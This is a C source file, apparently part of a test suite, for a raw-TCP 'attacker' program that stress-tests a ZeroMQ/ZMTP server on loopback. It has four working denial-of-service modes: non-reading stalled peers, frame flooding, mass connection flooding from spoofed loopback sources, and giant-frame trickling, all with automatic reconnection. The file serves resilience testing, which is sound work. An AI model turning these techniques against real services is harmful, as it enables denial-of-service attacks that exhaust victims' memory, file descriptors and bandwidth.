/* attack_raw MODE --connect tcp://127.0.0.1:PORT [options]: the attackers
 * of the attack suite, raw TCP/ZMTP peers written with plain sockets
 * (../rawzmtp.h; no libzmq). Every socket closes with SO_LINGER 0 (a reset,
 * so tens of thousands of connections leave no TIME_WAIT behind), and every
 * mode runs until SIGTERM/SIGINT (or the --max-seconds watchdog).
 *
 *   stall      --count N connections complete the NULL handshake as --type
 *              (SUB also subscribes to everything) and then never read;
 *              their receive buffer is --rcvbuf bytes (T1, T5)
 *   flood      --count N connections handshake as PUSH and then write
 *              --size byte frames as fast as the victim takes them (T2)
 *   connflood  --count N connections (T3: 10000; capped by the fd limit,
 *              whose soft value is raised to the hard one): one in three
 *              completes the handshake (as DEALER) and idles, one sends
 *              nothing, one sends half a greeting. At most --inflight
 *              connects are in progress at a time. Connections come from
 *              --sources loopback addresses (127.0.0.2 and up, as that many
 *              attacking hosts; 0 = the default 127.0.0.1), so the
 *              legitimate client on 127.0.0.1 is another host (T3)
 *   giant      --count N connections handshake as PUSH, send a frame header
 *              declaring --declare bytes (1G) and then trickle --chunk bytes
 *              (1K) per connection every --interval-ms (100) (T4)
 *
 * A connection the victim closes is opened again after --backoff-ms
 * (1000), as a determined attacker would; with --reconnect 0 connflood does
 * not (each of its connections is tried once). Output: READY, ESTABLISHED (the
 * attack is in place: every connection set up, or --establish-ms passed),
 * TICK lines, "RESULT attacker ...". */
#include "rawzmtp.h"
#include "attack_util.h"
#include <fcntl.h>
#include <sys/epoll.h>

static struct atk_opt opts[] = {
    {"--connect", ""},          {"--count", "1"},          {"--type", "PUSH"},
    {"--rcvbuf", "4096"},       {"--size", "256K"},        {"--declare", "1G"},
    {"--chunk", "1K"},          {"--interval-ms", "100"},  {"--backoff-ms", "1000"},
    {"--inflight", "256"},      {"--establish-ms", "3000"}, {"--tick-ms", "1000"},
    {"--max-seconds", "120"},   {"--reconnect", "1"},      {"--sources", "0"},
};
#define NOPTS ((int) (sizeof opts / sizeof opts[0]))

static int port;
static int64_t backoff_ms;
static struct atk_ticker ticker;

static void set_nonblocking (int fd)
{
    int fl = fcntl (fd, F_GETFL, 0);
    fcntl (fd, F_SETFL, fl | O_NONBLOCK);
}

/* A TCP socket with SO_LINGER 0 and TCP_NODELAY (and SO_RCVBUF if > 0). */
static int new_socket (int rcvbuf, int nonblocking)
{
    int fd = socket (AF_INET, SOCK_STREAM | (nonblocking ? SOCK_NONBLOCK : 0), 0);
    if (fd < 0)
        return -1;
    struct linger lg = {1, 0};
    setsockopt (fd, SOL_SOCKET, SO_LINGER, &lg, sizeof lg);
    int one = 1;
    setsockopt (fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    if (rcvbuf > 0)
        setsockopt (fd, SOL_SOCKET, SO_RCVBUF, &rcvbuf, sizeof rcvbuf);
    return fd;
}

/* Blocking connect + NULL handshake as `type`; returns the fd or -1. */
static int connect_handshake (const char *type, int rcvbuf, int timeout_ms)
{
    int fd = new_socket (rcvbuf, 0);
    if (fd < 0)
        return -1;
    struct sockaddr_in sa;
    rz_loopback_addr (&sa, port);
    if (connect (fd, (struct sockaddr *) &sa, sizeof sa) != 0
        || rz_handshake (fd, type, timeout_ms) != 0) {
        close (fd);
        return -1;
    }
    return fd;
}

/* 1 if the victim closed fd (EOF or error), 0 if it is open. Reads
 * nothing: MSG_PEEK. */
static int peer_closed (int fd)
{
    char c;
    ssize_t n = recv (fd, &c, 1, MSG_PEEK | MSG_DONTWAIT);
    if (n > 0)
        return 0;
    if (n == 0)
        return 1;
    return errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR;
}

static void print_established (const char *fmt, ...)
{
    va_list ap;
    va_start (ap, fmt);
    printf ("ESTABLISHED t=%lld ", (long long) atk_now_ms ());
    vprintf (fmt, ap);
    printf ("\n");
    fflush (stdout);
    va_end (ap);
}

/* Leaves room for stdio and the like under the fd limit. */
static int fd_budget (int wanted)
{
    long soft = atk_set_nofile ("max");
    long room = soft - 64;
    if (room < 1)
        room = 1;
    if (wanted > room) {
        fprintf (stderr,
                 "attack_raw: fd limit %ld (hard %ld): using %ld connections "
                 "instead of %d\n",
                 soft, atk_nofile_hard (), room, wanted);
        return (int) room;
    }
    return wanted;
}

/* ---- connections kept open -------------------------------------------- */
/* n connections; one the victim closes (or that fails) is reopened once the
 * backoff has passed. */
struct slots {
    int n;
    int *fds;
    int64_t *retry;
    long long closed, reconnects, failed;
};

static void slots_init (struct slots *s, int n)
{
    memset (s, 0, sizeof *s);
    s->n = n;
    s->fds = malloc (sizeof (int) * (size_t) n);
    s->retry = calloc ((size_t) n, sizeof (int64_t));
    if (!s->fds || !s->retry)
        atk_die ("out of memory");
}

/* Slot i's connection ended: reopen it after the backoff. */
static void slot_drop (struct slots *s, int i, int64_t now)
{
    close (s->fds[i]);
    s->fds[i] = -1;
    s->closed++;
    s->retry[i] = now + backoff_ms;
}

/* Slot i's fd, reopened by open_fn (arg) if the victim closed it and the
 * backoff is over; -1 while it has none. */
static int slot_refresh (struct slots *s, int i, int64_t now,
                         int (*open_fn) (const void *), const void *arg)
{
    if (s->fds[i] >= 0 && peer_closed (s->fds[i]))
        slot_drop (s, i, now);
    if (s->fds[i] < 0 && now >= s->retry[i]) {
        s->fds[i] = open_fn (arg);
        if (s->fds[i] >= 0)
            s->reconnects++;
        else {
            s->failed++;
            s->retry[i] = now + backoff_ms;
        }
    }
    return s->fds[i];
}

/* ---- stall ------------------------------------------------------------ */
struct stall_peer {
    const char *type;
    int rcvbuf, timeout_ms;
};

/* A handshaken peer that never reads; a SUB subscribes to everything. */
static int stall_open (const void *arg)
{
    const struct stall_peer *p = arg;
    int fd = connect_handshake (p->type, p->rcvbuf, p->timeout_ms);
    int is_sub = strcmp (p->type, "SUB") == 0 || strcmp (p->type, "XSUB") == 0;
    if (fd >= 0 && is_sub && rz_send_frame (fd, 0, "\x01", 1) != 0) {
        close (fd);
        fd = -1;
    }
    return fd;
}

static void run_stall (int n, const char *type, int rcvbuf)
{
    struct slots s;
    slots_init (&s, n);
    struct stall_peer peer = {type, rcvbuf, 3000};
    int open = 0;
    for (int i = 0; i < n; i++) {
        s.fds[i] = stall_open (&peer);
        if (s.fds[i] < 0)
            s.failed++;
        else
            open++;
    }
    print_established ("open=%d failed=%lld", open, s.failed);
    peer.timeout_ms = 1000;
    while (!atk_stopping ()) {
        int64_t now = atk_now_ms ();
        open = 0;
        for (int i = 0; i < n; i++)
            if (slot_refresh (&s, i, now, stall_open, &peer) >= 0)
                open++;
        if (atk_tick_due (&ticker)) {
            printf (" open=%d closed=%lld reconnects=%lld\n", open, s.closed,
                    s.reconnects);
            fflush (stdout);
        }
        atk_sleep_us (100000);
    }
    printf ("RESULT attacker mode=stall open=%d closed=%lld reconnects=%lld "
            "failed=%lld\n",
            open, s.closed, s.reconnects, s.failed);
}

/* ---- flood ------------------------------------------------------------ */
static void run_flood (int n, size_t size)
{
    size_t hlen = size > 255 ? 9 : 2;
    size_t flen = hlen + size;
    unsigned char *frame = malloc (flen);
    if (!frame)
        atk_die ("out of memory");
    if (size > 255) {
        frame[0] = RZ_FLAG_LONG;
        for (int i = 0; i < 8; i++)
            frame[1 + i] = (unsigned char) ((uint64_t) size >> (56 - 8 * i));
    } else {
        frame[0] = 0;
        frame[1] = (unsigned char) size;
    }
    memset (frame + hlen, 'F', size);

    struct pollfd *pfd = calloc ((size_t) n, sizeof *pfd);
    size_t *off = calloc ((size_t) n, sizeof *off);
    int64_t *retry = calloc ((size_t) n, sizeof (int64_t));
    if (!pfd || !off || !retry)
        atk_die ("out of memory");
    long long frames = 0, bytes = 0, closed = 0, reconnects = 0;
    int open = 0;
    for (int i = 0; i < n; i++) {
        pfd[i].fd = connect_handshake ("PUSH", 0, 3000);
        pfd[i].events = POLLOUT;
        if (pfd[i].fd >= 0) {
            set_nonblocking (pfd[i].fd);
            open++;
        }
    }
    print_established ("open=%d", open);
    while (!atk_stopping ()) {
        if (atk_tick_due (&ticker)) {
            printf (" frames=%lld bytes=%lld open=%d closed=%lld reconnects=%lld\n",
                    frames, bytes, open, closed, reconnects);
            fflush (stdout);
        }
        int64_t now = atk_now_ms ();
        for (int i = 0; i < n; i++)
            if (pfd[i].fd < 0 && now >= retry[i]) {
                pfd[i].fd = connect_handshake ("PUSH", 0, 1000);
                off[i] = 0;
                if (pfd[i].fd >= 0) {
                    set_nonblocking (pfd[i].fd);
                    reconnects++;
                    open++;
                } else {
                    retry[i] = now + backoff_ms;
                }
            }
        int rc = poll (pfd, (nfds_t) n, 100);
        if (rc <= 0)
            continue;
        for (int i = 0; i < n; i++) {
            if (pfd[i].fd < 0 || !pfd[i].revents)
                continue;
            int dead = (pfd[i].revents & (POLLERR | POLLHUP)) != 0;
            /* a few frames per turn, so every connection gets its go */
            for (int k = 0; !dead && k < 16; k++) {
                ssize_t w = send (pfd[i].fd, frame + off[i], flen - off[i],
                                  MSG_DONTWAIT | MSG_NOSIGNAL);
                if (w < 0) {
                    if (errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)
                        dead = 1;
                    break;
                }
                bytes += w;
                off[i] += (size_t) w;
                if (off[i] == flen) {
                    off[i] = 0;
                    frames++;
                }
            }
            if (dead) {
                close (pfd[i].fd);
                pfd[i].fd = -1;
                retry[i] = atk_now_ms () + backoff_ms;
                closed++;
                open--;
            }
        }
    }
    printf ("RESULT attacker mode=flood frames=%lld bytes=%lld open=%d "
            "closed=%lld reconnects=%lld\n",
            frames, bytes, open, closed, reconnects);
}

/* ---- connflood -------------------------------------------------------- */
enum { MODE_HANDSHAKE, MODE_SILENT, MODE_HALF };
enum { ST_DOWN, ST_CONNECTING, ST_GREETING, ST_IDLE };

struct conn {
    int fd;
    unsigned char mode, state;
    unsigned short got;
    int64_t retry_at;
};

/* Binds fd to the loopback source address 127.0.0.(2 + i % sources). */
static void bind_source (int fd, int i, int sources)
{
    if (sources <= 0)
        return;
    struct sockaddr_in src;
    memset (&src, 0, sizeof src);
    src.sin_family = AF_INET;
    src.sin_addr.s_addr = htonl (0x7f000002u + (uint32_t) (i % sources));
    (void) bind (fd, (struct sockaddr *) &src, sizeof src);
}

static void run_connflood (int n, int inflight_max, int64_t establish_ms,
                           int reconnect, int sources)
{
    const int64_t never = INT64_MAX;
    unsigned char greeting[64];
    rz_make_greeting (greeting, 0);
    unsigned char ready[128];
    size_t rlen = 0;
    {
        unsigned char body[64];
        size_t b = 0;
        body[b++] = 5;
        memcpy (body + b, "READY", 5);
        b += 5;
        b += rz_put_property_header (body + b, "Socket-Type", 6);
        memcpy (body + b, "DEALER", 6);
        b += 6;
        ready[rlen++] = RZ_FLAG_COMMAND;
        ready[rlen++] = (unsigned char) b;
        memcpy (ready + rlen, body, b);
        rlen += b;
    }
    struct conn *c = calloc ((size_t) n, sizeof *c);
    if (!c)
        atk_die ("out of memory");
    int ep = epoll_create1 (0);
    if (ep < 0)
        atk_die ("epoll_create1: %s", strerror (errno));
    for (int i = 0; i < n; i++) {
        c[i].fd = -1;
        c[i].mode = (unsigned char) (i % 3);
    }
    long long opened = 0, connected = 0, handshaked = 0, closed = 0, failed = 0,
              sock_errors = 0;
    int inflight = 0, up = 0, next_down = 0;
    int64_t t0 = atk_now_ms ();
    int announced = 0;
    struct sockaddr_in sa;
    rz_loopback_addr (&sa, port);
    struct epoll_event evs[256];
    unsigned char sink[4096];

    while (!atk_stopping ()) {
        int64_t now = atk_now_ms ();
        /* open connections up to the target, a bounded number at a time */
        for (int scanned = 0; scanned < n && inflight < inflight_max; scanned++) {
            int i = next_down;
            next_down = (next_down + 1) % n;
            if (c[i].state != ST_DOWN || now < c[i].retry_at)
                continue;
            int fd = new_socket (0, 1);
            if (fd < 0) {
                sock_errors++;
                c[i].retry_at = now + backoff_ms;
                break;
            }
            bind_source (fd, i, sources);
            int rc = connect (fd, (struct sockaddr *) &sa, sizeof sa);
            if (rc != 0 && errno != EINPROGRESS) {
                close (fd);
                failed++;
                c[i].retry_at = reconnect ? now + backoff_ms : never;
                continue;
            }
            struct epoll_event ev = {EPOLLOUT | EPOLLIN | EPOLLRDHUP, {.u32 = (uint32_t) i}};
            epoll_ctl (ep, EPOLL_CTL_ADD, fd, &ev);
            c[i].fd = fd;
            c[i].state = ST_CONNECTING;
            c[i].got = 0;
            inflight++;
            opened++;
        }
        if (!announced
            && ((opened >= n && inflight == 0) || now - t0 >= establish_ms)) {
            print_established ("target=%d up=%d inflight=%d handshaked=%lld "
                               "failed=%lld",
                               n, up, inflight, handshaked, failed);
            announced = 1;
        }
        if (atk_tick_due (&ticker)) {
            printf (" target=%d up=%d inflight=%d opened=%lld connected=%lld "
                    "handshaked=%lld closed=%lld failed=%lld sock_errors=%lld\n",
                    n, up, inflight, opened, connected, handshaked, closed, failed,
                    sock_errors);
            fflush (stdout);
        }
        int nev = epoll_wait (ep, evs, 256, 50);
        for (int k = 0; k < nev; k++) {
            int i = (int) evs[k].data.u32;
            struct conn *x = &c[i];
            if (x->fd < 0)
                continue;
            int dead = 0;
            if (x->state == ST_CONNECTING) {
                int err = 0;
                socklen_t len = sizeof err;
                getsockopt (x->fd, SOL_SOCKET, SO_ERROR, &err, &len);
                if (err != 0 || (evs[k].events & (EPOLLERR | EPOLLHUP))) {
                    inflight--;
                    failed++;
                    close (x->fd);
                    x->fd = -1;
                    x->state = ST_DOWN;
                    x->retry_at = reconnect ? atk_now_ms () + backoff_ms : never;
                    continue;
                }
                if (!(evs[k].events & EPOLLOUT))
                    continue;
                inflight--;
                connected++;
                up++;
                struct epoll_event ev = {EPOLLIN | EPOLLRDHUP, {.u32 = (uint32_t) i}};
                epoll_ctl (ep, EPOLL_CTL_MOD, x->fd, &ev);
                if (x->mode == MODE_HANDSHAKE) {
                    dead = send (x->fd, greeting, 64, MSG_NOSIGNAL) != 64;
                    x->state = ST_GREETING;
                } else {
                    if (x->mode == MODE_HALF)
                        dead = send (x->fd, greeting, 32, MSG_NOSIGNAL) != 32;
                    x->state = ST_IDLE;
                }
            } else {
                /* read (and drop) whatever the victim sends */
                ssize_t r = recv (x->fd, sink, sizeof sink, MSG_DONTWAIT);
                if (r == 0 || (r < 0 && errno != EAGAIN && errno != EINTR))
                    dead = 1;
                else if (r > 0 && x->state == ST_GREETING) {
                    x->got = (unsigned short) (x->got + (r > 64 ? 64 : r));
                    if (x->got >= 64) {
                        dead = send (x->fd, ready, rlen, MSG_NOSIGNAL) != (ssize_t) rlen;
                        x->state = ST_IDLE;
                        handshaked++;
                    }
                } else if (r < 0 && (evs[k].events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR)))
                    dead = 1;
            }
            if (dead) {
                close (x->fd);
                x->fd = -1;
                x->state = ST_DOWN;
                x->retry_at = reconnect ? atk_now_ms () + backoff_ms : never;
                closed++;
                up--;
            }
        }
    }
    printf ("RESULT attacker mode=connflood target=%d up=%d inflight=%d "
            "opened=%lld connected=%lld handshaked=%lld closed=%lld failed=%lld "
            "sock_errors=%lld\n",
            n, up, inflight, opened, connected, handshaked, closed, failed,
            sock_errors);
}

/* ---- giant ------------------------------------------------------------ */
static int giant_open (const void *arg)
{
    uint64_t declare = *(const uint64_t *) arg;
    int fd = connect_handshake ("PUSH", 0, 2000);
    if (fd < 0)
        return -1;
    if (rz_send_frame_header (fd, 0, declare, 1) != 0) {
        close (fd);
        return -1;
    }
    set_nonblocking (fd);
    return fd;
}

static void run_giant (int n, uint64_t declare, size_t chunk, int64_t interval_ms)
{
    unsigned char *buf = malloc (chunk ? chunk : 1);
    if (!buf)
        atk_die ("out of memory");
    memset (buf, 'G', chunk);
    struct slots s;
    slots_init (&s, n);
    long long body = 0;
    int open = 0;
    for (int i = 0; i < n; i++)
        s.fds[i] = -1;
    for (int i = 0; i < n && !atk_stopping (); i++) {
        s.fds[i] = giant_open (&declare);
        if (s.fds[i] >= 0)
            open++;
        else
            s.failed++;
    }
    print_established ("open=%d failed=%lld declare=%llu", open, s.failed,
                       (unsigned long long) declare);
    int64_t next = atk_now_ms ();
    while (!atk_stopping ()) {
        int64_t now = atk_now_ms ();
        open = 0;
        for (int i = 0; i < n; i++) {
            int fd = slot_refresh (&s, i, now, giant_open, &declare);
            if (fd < 0)
                continue;
            ssize_t w = send (fd, buf, chunk, MSG_DONTWAIT | MSG_NOSIGNAL);
            if (w > 0)
                body += w;
            else if (w < 0 && errno != EAGAIN && errno != EWOULDBLOCK) {
                slot_drop (&s, i, now);
                continue;
            }
            open++;
        }
        if (atk_tick_due (&ticker)) {
            printf (" open=%d body_bytes=%lld closed=%lld reconnects=%lld "
                    "failed=%lld\n",
                    open, body, s.closed, s.reconnects, s.failed);
            fflush (stdout);
        }
        next += interval_ms;
        atk_sleep_until_ms (next);
        if (atk_now_ms () > next + interval_ms)
            next = atk_now_ms ();
    }
    printf ("RESULT attacker mode=giant open=%d body_bytes=%lld closed=%lld "
            "reconnects=%lld failed=%lld\n",
            open, body, s.closed, s.reconnects, s.failed);
}

int main (int argc, char **argv)
{
    if (argc < 2 || argv[1][0] == '-') {
        fprintf (stderr, "usage: attack_raw stall|flood|connflood|giant "
                         "--connect tcp://127.0.0.1:PORT [options]\n");
        return 1;
    }
    const char *mode = argv[1];
    atk_parse_opts (argc, argv, 2, opts, NOPTS);
    atk_install_signals ((unsigned) atk_opt_num (opts, NOPTS, "--max-seconds"));
    port = rz_endpoint_port (atk_opt_str (opts, NOPTS, "--connect"));
    if (port <= 0)
        atk_die ("--connect tcp://127.0.0.1:PORT is required");
    backoff_ms = atk_opt_num (opts, NOPTS, "--backoff-ms");
    atk_ticker_init (&ticker, atk_opt_num (opts, NOPTS, "--tick-ms"));
    int count = (int) atk_opt_num (opts, NOPTS, "--count");
    int n = fd_budget (count);
    printf ("READY pid=%d mode=%s count=%d requested=%d nofile=%ld\n",
            (int) getpid (), mode, n, count, atk_set_nofile ("keep"));
    fflush (stdout);

    if (strcmp (mode, "stall") == 0)
        run_stall (n, atk_opt_str (opts, NOPTS, "--type"),
                   (int) atk_opt_num (opts, NOPTS, "--rcvbuf"));
    else if (strcmp (mode, "flood") == 0)
        run_flood (n, (size_t) atk_opt_num (opts, NOPTS, "--size"));
    else if (strcmp (mode, "connflood") == 0)
        run_connflood (n, (int) atk_opt_num (opts, NOPTS, "--inflight"),
                       atk_opt_num (opts, NOPTS, "--establish-ms"),
                       (int) atk_opt_num (opts, NOPTS, "--reconnect"),
                       (int) atk_opt_num (opts, NOPTS, "--sources"));
    else if (strcmp (mode, "giant") == 0)
        run_giant (n, (uint64_t) atk_opt_num (opts, NOPTS, "--declare"),
                   (size_t) atk_opt_num (opts, NOPTS, "--chunk"),
                   atk_opt_num (opts, NOPTS, "--interval-ms"));
    else
        atk_die ("unknown mode '%s'", mode);
    fflush (stdout);
    return 0;
}
